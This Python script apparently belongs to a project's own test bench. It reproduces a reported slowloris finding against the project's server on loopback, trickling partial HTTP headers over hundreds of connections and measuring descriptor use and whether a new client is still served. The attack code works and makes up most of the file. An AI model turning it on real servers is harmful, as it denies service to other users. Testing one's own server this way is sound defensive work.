"""Issue 28, finding 3 (descriptors): slowloris. One loopback client keeps `--connections`
requests half-sent, trickling a header every `--every` seconds and opening a new one for
each the server closes, for `--seconds`; the server runs with at most `--fd-limit`
descriptors (the issue's 20,400 connections reached a real limit; a small one shows the
same at a modest scale).

    PYTHONPATH=. python bench/attacks/slow_headers.py [--connections 300] [--fd-limit 256]

Prints the server's open descriptors before, at their peak and after, and what a new
client (from 127.0.0.2) got during the attack."""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import time

import httpx
from served import Served, serve


async def trickle(port: int, until: float, every: float, opened: list[int]) -> None:
    """One attacking connection, reopened whenever the server closes it."""
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), timeout=5
            )
        except (OSError, TimeoutError):
            await asyncio.sleep(every)
            continue
        opened[0] += 1
        try:
            writer.write(b"GET /api/games HTTP/1.1\r\nHost: tavola\r\n")
            header = 0
            while time.monotonic() < until and not reader.at_eof():
                await asyncio.sleep(every)
                header += 1
                writer.write(b"X-Trickle-%d: 1\r\n" % header)
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    if await asyncio.wait_for(reader.read(1024), timeout=0.01) == b"":
                        break
        except OSError:
            pass
        finally:
            writer.close()


async def probe(server: Served) -> str:
    """A new client's request from another address, as the attack runs."""
    transport = httpx.AsyncHTTPTransport(local_address="127.0.0.2")
    async with httpx.AsyncClient(transport=transport, timeout=5) as client:
        try:
            started = time.monotonic()
            answer = await client.get(f"{server.url}/api/games")
            return f"{answer.status_code} in {time.monotonic() - started:.2f} s"
        except httpx.HTTPError as exc:
            return f"nothing ({type(exc).__name__})"


async def attack(server: Served, connections: int, seconds: float, every: float) -> None:
    before = server.descriptors()
    until = time.monotonic() + seconds
    opened = [0]
    attackers = [
        asyncio.ensure_future(trickle(server.port, until, every, opened))
        for _ in range(connections)
    ]
    peak = before
    probes = []
    while time.monotonic() < until:
        await asyncio.sleep(0.5)
        with contextlib.suppress(OSError):
            peak = max(peak, server.descriptors())
        if len(probes) < 3 and time.monotonic() > until - seconds * (3 - len(probes)) / 4:
            probes.append(await probe(server))
    await asyncio.gather(*attackers)
    await asyncio.sleep(2)  # the closes reach the server
    after = server.descriptors()
    print(
        f"descriptors: before {before}, peak {peak}, after {after};"
        f" attacking connections opened: {opened[0]}"
    )
    print(f"a new client during the attack got: {'; '.join(probes)}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--connections", type=int, default=300)
    parser.add_argument("--seconds", type=float, default=16.0)
    parser.add_argument("--every", type=float, default=2.0)
    parser.add_argument("--fd-limit", type=int, default=256)
    args = parser.parse_args()
    with serve(fd_limit=args.fd_limit) as server:
        asyncio.run(attack(server, args.connections, args.seconds, args.every))


if __name__ == "__main__":
    main()
